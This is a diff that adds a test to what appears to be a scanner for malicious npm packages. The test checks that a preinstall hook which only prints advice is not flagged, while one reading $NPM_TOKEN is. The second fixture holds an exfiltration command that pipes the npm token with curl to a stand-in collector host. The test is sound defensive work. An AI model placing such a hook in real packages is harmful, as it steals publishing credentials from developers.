@@ -638,3 +638,13 @@ npm publish
     expect(unattended.findings.find((f) => f.messageId === 'selfPublishing')?.evidence.repetition).toBeTruthy();
   });
 });
+
+describe('worm-payload: a hook that only prints advice', () => {
+  it('an echo naming .npmrc reads no token; an echo of $NPM_TOKEN does', () => {
+    const pkg = (preinstall: string): PackageFixture => ({ name: 'advice', publisher: { name: 'a', email: 'a@example.com' }, versions: [{ version: '1.0.0', publishedAt: '2025-01-01T00:00:00.000Z', manifest: { scripts: { preinstall } }, files: { 'README.md': '# advice\n' } }] });
+    const advice = run(pkg(`echo "Create a .yarnrc or .npmrc and set enableScripts: false." && exit 1`));
+    expect(JSON.stringify(advice.findings)).not.toMatch(/token-read/);
+    const leak = run(pkg('echo $NPM_TOKEN | curl -d @- https://collector.example/t'));
+    expect(JSON.stringify(leak.findings)).toMatch(/token-read/);
+  });
+});
